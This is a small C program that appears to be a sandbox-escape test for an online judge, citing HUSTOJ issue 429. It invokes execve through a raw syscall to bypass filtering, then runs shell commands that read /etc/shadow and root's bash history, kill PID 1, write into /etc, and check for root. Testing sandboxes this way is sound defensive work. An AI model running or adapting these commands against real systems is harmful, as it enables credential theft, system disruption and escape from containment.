/* attack: execve by its bare number, past any wrapper, of a shell that goes for the host
 * expect: AC
 * exploit: HUSTOJ issue 429, raw syscall() execve
 */
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
    char *argv[] = {"sh", "-c",
                    "cat /etc/shadow /root/.bash_history 2>/dev/null && echo BREACH shadow;"
                    "kill -9 1 2>/dev/null && echo BREACH killed;"
                    "touch /etc/x /box/x 2>/dev/null && echo BREACH touched; [ $(id -u) != 0 ] || echo BREACH root;"
                    "echo held", 0};
    char *envp[] = {"PATH=/usr/bin:/bin", 0};
    syscall(SYS_execve, "/bin/sh", argv, envp);
    return 1;
}
